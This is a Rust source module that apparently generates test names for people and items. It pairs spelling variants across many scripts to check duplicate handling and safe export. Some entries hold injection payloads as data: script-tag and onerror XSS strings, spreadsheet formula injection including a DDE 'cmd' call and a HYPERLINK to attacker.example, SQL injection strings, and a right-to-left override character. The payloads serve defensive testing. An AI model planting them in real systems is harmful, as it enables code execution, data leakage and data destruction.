//! What stands around the invented word of a name. Each style is a pair of twins that a careless program takes
//! for one: the same word in two spellings, or in two wrappings that are hostile to whoever shows or exports it.

use super::scripts::{
    ACCENTS, ARABIC, CYRILLIC, DEVANAGARI, GREEK, HAN, HANGUL, HEBREW, LATIN, Script, THAI,
};

/// A style: the script of the word, and for each twin what stands before and after it.
pub(super) struct Style {
    pub(super) script: &'static Script,
    pub(super) twins: [(&'static str, &'static str); 2],
}

const fn style(script: &'static Script, twins: [(&'static str, &'static str); 2]) -> Style {
    Style { script, twins }
}

/// As long as a name of a person may be: 500 characters with the word.
const LONG: &str = " and All Its Affiliated, Associated and Subsidiary Undertakings, Trading Jointly and Severally as \
    the Amalgamated Society of Boatbuilders, Chandlers, Cordwainers, Coopers, Farriers, Fishmongers, Glaziers, \
    Haberdashers, Ironmongers, Joiners, Lorimers, Masons, Netmakers, Ostlers, Pewterers, Quarrymen, Ropemakers, \
    Saddlers, Tallow Chandlers, Upholders, Vintners, Wheelwrights and Yeomen of the Western Approaches, \
    Incorporated by Letters Patent, Limited";

pub(super) static PEOPLE: &[Style] = &[
    style(&LATIN, [("", " Ltd"), ("", " Limited")]),
    style(&LATIN, [("", " & Sons Ltd"), ("", " and Sons Ltd.")]),
    style(&LATIN, [("", " Plumbing LLC"), ("", " Plumbing, LLC")]),
    style(&LATIN, [("", " Bakery"), ("", " Bakeries")]),
    style(&LATIN, [("The ", " Company"), ("", " Co.")]),
    style(&LATIN, [("", " Studio"), ("", " Studios")]),
    style(&LATIN, [("", " Engineering Inc"), ("", " Engineering, Inc.")]),
    style(&LATIN, [("Ana ", ""), ("Anna ", "")]),
    style(&LATIN, [("", ", J."), ("J. ", "")]),
    style(&LATIN, [("O'", ""), ("O’", "")]),
    style(&LATIN, [("D'Arcy ", "'s Chandlery"), ("D’Arcy ", "’s Chandlery")]),
    style(&LATIN, [("Café ", ""), ("Cafe ", "")]),
    style(&LATIN, [("Cafe\u{301} ", " Bar"), ("Café ", " Bar")]),
    style(&ACCENTS, [("", " GmbH & Co. KG"), ("", " GmbH u. Co. KG")]),
    style(&ACCENTS, [("", "straße 1"), ("", "str. 1")]),
    style(&ACCENTS, [("", " S.à r.l."), ("", " SARL")]),
    style(&GREEK, [("", " ΑΕ"), ("", " Α.Ε.")]),
    style(&CYRILLIC, [("ООО «", "»"), ("ООО \"", "\"")]),
    style(&ARABIC, [("شركة ", " للتجارة"), ("مؤسسة ", " للتجارة")]),
    style(&HEBREW, [("", " בע\"מ"), ("", " בע״מ")]),
    style(&DEVANAGARI, [("", " प्राइवेट लिमिटेड"), ("श्री ", "")]),
    style(&THAI, [("บริษัท ", " จำกัด"), ("หจก. ", "")]),
    style(&HANGUL, [("(주)", ""), ("주식회사 ", "")]),
    style(&HAN, [("株式会社", ""), ("", "株式会社")]),
    style(&LATIN, [("<script>alert('", "')</script>"), ("<img src=x onerror=alert('", "')>")]),
    style(&LATIN, [("=cmd|' /C calc'!", ""), ("@SUM(", ")")]),
    style(&LATIN, [("+44 ", " Rescue"), ("-2+3+", "")]),
    style(&LATIN, [("=HYPERLINK(\"//attacker.example/", "\")"), ("=1+1+", "")]),
    style(&LATIN, [("\"", "\" & Co"), ("“", "” & Co")]),
    style(&LATIN, [("Robert'); DROP TABLE ", ";--"), ("", "' OR '1'='1")]),
    style(&LATIN, [("100% ", "\\"), ("100 % ", "_")]),
    style(&LATIN, [("🐟 ", " Fishmongers"), ("", " Fishmongers 🐟")]),
    style(&LATIN, [("\u{202e}", ""), ("", "\u{200b} Holdings")]),
    style(&LATIN, [("", LONG), ("The ", LONG)]),
];

/// An item's name is at most 100 characters.
pub(super) static THINGS: &[Style] = &[
    style(&LATIN, [("", " Rope 10 mm"), ("", " Rope 10mm")]),
    style(&LATIN, [("", " Valve 1/2\""), ("", " Valve ½\"")]),
    style(&LATIN, [("Labour, ", ""), ("Labor, ", "")]),
    style(&LATIN, [("", "'s Paint, Blue"), ("", "’s Paint, Blue")]),
    style(&ACCENTS, [("Crème ", " 5 l"), ("Creme ", " 5 l")]),
    style(&GREEK, [("Λάδι ", ""), ("Λαδι ", "")]),
    style(&CYRILLIC, [("Краска ", ""), ("Краски ", "")]),
    style(&ARABIC, [("قطعة ", ""), ("قطع ", "")]),
    style(&HAN, [("", "(大)"), ("", "（大）")]),
    style(&LATIN, [("<b>", "</b>"), ("<script>alert('", "')</script>")]),
    style(&LATIN, [("=cmd|' /C calc'!", ""), ("+", "")]),
    style(
        &LATIN,
        [
            ("", " marine-grade stainless shackle, electropolished, with captive pin and long clevis"),
            ("", " marine-grade stainless shackle, electropolished, with captive pin and long clevis."),
        ],
    ),
];
